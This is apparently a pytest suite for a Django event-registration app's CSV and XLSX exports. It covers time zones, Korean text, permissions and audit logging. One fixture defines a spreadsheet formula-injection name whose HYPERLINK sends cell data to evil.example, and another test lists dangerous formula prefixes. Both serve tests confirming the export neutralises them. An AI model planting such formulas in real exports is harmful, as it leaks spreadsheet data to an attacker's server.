from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import translation

from madang.accounts.models import AuditEntry, EditionRole
from madang.registration import exports
from madang.registration.enums import RegistrationLanguage, RegistrationStatus
from madang.registration.models import Registration
from tests.factories import EventFactory, UserFactory, bilingual
from tests.factories.registration import CategoryFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def edition_registrations():
    event = EventFactory(slug="seoul-2025", time_zone="Asia/Seoul")
    category = CategoryFactory(event=event, name=bilingual("시민", "Citizens"))
    first = RegistrationFactory(
        category=category, name="김민지 🌸", email="minji@example.org", language="ko"
    )
    second = RegistrationFactory(
        category=category,
        name=HOSTILE_NAME,
        email="x@example.org",
        language=RegistrationLanguage.EN,
        status=RegistrationStatus.OFFERED,
        offer_expires_at=datetime(2025, 5, 1, 15, 0, tzinfo=UTC),
    )
    Registration.objects.filter(pk=first.pk).update(
        created_at=datetime(2025, 4, 1, 1, 30, tzinfo=UTC)
    )
    Registration.objects.filter(pk=second.pk).update(
        created_at=datetime(2025, 4, 2, 1, 30, tzinfo=UTC)
    )
    return event, first, second


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def parse_xlsx(content: bytes) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [
        ["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)
    ]


def test_table_has_columns_in_order_with_times_in_the_edition_zone(edition_registrations):
    _, first, second = edition_registrations
    with translation.override("en"):
        header, rows = exports.registrations_table(Registration.objects.all())
        table = list(rows)
    assert header == [
        "Reference",
        "Name",
        "Email",
        "Language",
        "Category",
        "Status",
        "Registered at",
        "Offer expires",
    ]
    assert table == [
        [
            first.reference,
            "김민지 🌸",
            "minji@example.org",
            "ko",
            "Citizens",
            "Confirmed",
            "2025-04-01T10:30:00+09:00",
            "",
        ],
        [
            second.reference,
            HOSTILE_NAME,
            "x@example.org",
            "en",
            "Citizens",
            "Offered a place",
            "2025-04-02T10:30:00+09:00",
            "2025-05-02T00:00:00+09:00",
        ],
    ]


def test_category_and_status_follow_the_active_language(edition_registrations):
    with translation.override("ko"):
        header, rows = exports.registrations_table(Registration.objects.all())
        first = next(rows)
    assert header[:3] == ["신청 번호", "이름", "이메일"]
    assert first[4] == "시민"


@pytest.mark.parametrize(
    ("render", "parse"),
    [(exports.render_csv, parse_csv), (exports.render_xlsx, parse_xlsx)],
    ids=["csv", "xlsx"],
)
def test_files_round_trip_korean_and_emoji_and_neutralise_formulas(
    edition_registrations, render, parse
):
    with translation.override("en"):
        header, rows = exports.registrations_table(Registration.objects.all())
        parsed = parse(render(header, rows))
    assert parsed[0][:3] == ["Reference", "Name", "Email"]
    assert parsed[1][1] == "김민지 🌸"
    assert parsed[2][1] == "'" + HOSTILE_NAME
    assert len(parsed) == 3


@pytest.mark.parametrize("dangerous", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(dangerous):
    assert exports.neutralise(dangerous) == "'" + dangerous
    assert exports.neutralise("a=1") == "a=1"


def test_characters_xml_cannot_carry_do_not_break_the_workbook():
    content = exports.render_xlsx(["Name"], [["bell\x07name"]])
    assert parse_xlsx(content) == [["Name"], ["bellname"]]


def test_query_count_does_not_grow_with_the_number_of_rows(django_assert_max_num_queries):
    few = CategoryFactory()
    RegistrationFactory.create_batch(2, category=few)
    many = CategoryFactory()
    RegistrationFactory.create_batch(25, category=many)
    # One query for the categories' questions (none here), one for the rows.
    with django_assert_max_num_queries(2):
        _, rows = exports.registrations_table(Registration.objects.filter(category=few))
        assert len(list(rows)) == 2
    with django_assert_max_num_queries(2):
        _, rows = exports.registrations_table(Registration.objects.filter(category=many))
        assert len(list(rows)) == 25


def export(client, action, registrations):
    with translation.override("en"):
        url = reverse("admin:registration_registration_changelist")
    assert url.startswith("/en/")
    return client.post(url, {"action": action, "_selected_action": [r.pk for r in registrations]})


@pytest.fixture
def superuser_client(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def test_admin_exports_csv_as_an_attachment_and_audits_it(superuser_client, edition_registrations):
    event, first, second = edition_registrations
    response = export(superuser_client, "export_csv", [first, second])
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="seoul-2025-registrations.csv"'
    rows = parse_csv(response.content)
    assert rows[0][0] == "Reference"
    assert [row[0] for row in rows[1:]] == [first.reference, second.reference]
    entry = AuditEntry.objects.get(action="registration.export")
    assert entry.event_id == event.pk
    assert entry.details == {"count": 2, "format": "csv"}


def test_admin_exports_only_the_selected_registrations_as_xlsx(
    superuser_client, edition_registrations
):
    _, first, _ = edition_registrations
    response = export(superuser_client, "export_xlsx", [first])
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="seoul-2025-registrations.xlsx"'
    rows = parse_xlsx(response.content)
    assert [row[0] for row in rows] == ["Reference", first.reference]
    assert AuditEntry.objects.get(action="registration.export").details == {
        "count": 1,
        "format": "xlsx",
    }


def test_a_selection_across_editions_gets_a_neutral_file_name(superuser_client):
    one, other = RegistrationFactory(), RegistrationFactory()
    assert one.event_id != other.event_id
    response = export(superuser_client, "export_csv", [one, other])
    assert response["Content-Disposition"] == 'attachment; filename="registrations.csv"'
    assert AuditEntry.objects.get(action="registration.export").event_id is None


def viewer(client, *, organiser_of=None):
    user = UserFactory(is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_registration"))
    if organiser_of is not None:
        EditionRole.objects.create(user=user, event=organiser_of, role=EditionRole.Role.ORGANISER)
    client.force_login(user)
    return client


def test_viewers_see_the_export_actions_but_not_the_changing_ones(client):
    with translation.override("en"):
        response = viewer(client).get(reverse("admin:registration_registration_changelist"))
    actions = [value for value, _ in response.context["action_form"].fields["action"].choices]
    assert "export_csv" in actions
    assert "export_xlsx" in actions
    assert "approve" not in actions


def test_a_viewer_without_a_role_in_the_edition_cannot_export_it(client):
    registration = RegistrationFactory()
    response = export(viewer(client), "export_csv", [registration])
    assert response.status_code == 302
    assert not AuditEntry.objects.filter(action="registration.export").exists()


def test_an_organiser_of_the_edition_can_export_it(client):
    registration = RegistrationFactory()
    response = export(viewer(client, organiser_of=registration.event), "export_csv", [registration])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert AuditEntry.objects.get(action="registration.export").actor is not None
